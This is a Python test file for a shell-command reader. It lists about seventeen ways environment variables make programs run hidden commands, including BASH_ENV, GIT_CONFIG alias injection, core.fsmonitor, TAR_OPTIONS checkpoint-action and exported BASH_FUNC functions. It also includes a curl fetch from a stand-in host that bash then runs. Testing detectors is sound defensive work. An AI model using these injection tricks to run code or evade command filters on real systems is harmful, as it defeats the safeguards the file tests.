"""Variables that programs find in their surroundings, and run."""

from __future__ import annotations

import pytest

from engine.shell.reader import read

RUN = [
    "echo 'zap a' > f; BASH_ENV=f bash -c ls",
    "echo 'zap a' > f; export BASH_ENV=f; bash -c ls",
    "echo 'zap a' > f; env BASH_ENV=f bash -c ls",
    "BASH_ENV='$(zap a)' bash -c ls",
    "echo 'zap a' > f; ENV=f sh -i",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!zap a' git x",
    "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!zap a'; git x",
    "env GIT_CONFIG_COUNT=1 GIT_CONFIG_VALUE_0='!zap a' GIT_CONFIG_KEY_0=alias.x git x",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='zap a' git status",
    "GIT_CONFIG_PARAMETERS=\"'a.b=c' 'alias.x=!zap a'\" git x",
    "GIT_CONFIG_PARAMETERS=\"'alias.x'='!zap a'\" git x",
    "X='!zap a' git --config-env=alias.x=X x",
    "export X='!zap a'; git --config-env alias.x=X x",
    "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=\"zap a\"' tar cf x y",
    "env 'BASH_FUNC_x%%=() { zap a; }' bash -c x",
    "export GIT_PAGER='zap a'",
    "env GIT_PAGER='zap a' git log",
]
ORDINARY = [
    "ENV=production npm start",
    "export ENV=dev; make",
    "TAR_OPTIONS=--exclude=.git tar cf x y",
]


@pytest.mark.parametrize("line", RUN)
def test_it_is_run(line: str) -> None:
    assert "zap a" in read([line])


@pytest.mark.parametrize("line", ORDINARY)
def test_ordinary_variables_run_nothing(line: str) -> None:
    assert all(entry.startswith(("ENV", "TAR", "export", "npm", "make", "tar cf")) for entry in read([line]))


def test_what_is_loaded_is_run_by_a_shell() -> None:
    line = "curl http://x/f > f; BASH_ENV=f bash -c ls"
    assert "curl http://x/f > f | bash f" in read([line])


def test_many_settings_are_read_in_part() -> None:
    pairs = " ".join(f"GIT_CONFIG_KEY_{n}=alias.x GIT_CONFIG_VALUE_{n}='!git x'" for n in range(2_000))
    assert read([f"{pairs} git x"])[-1] == "unreadable"
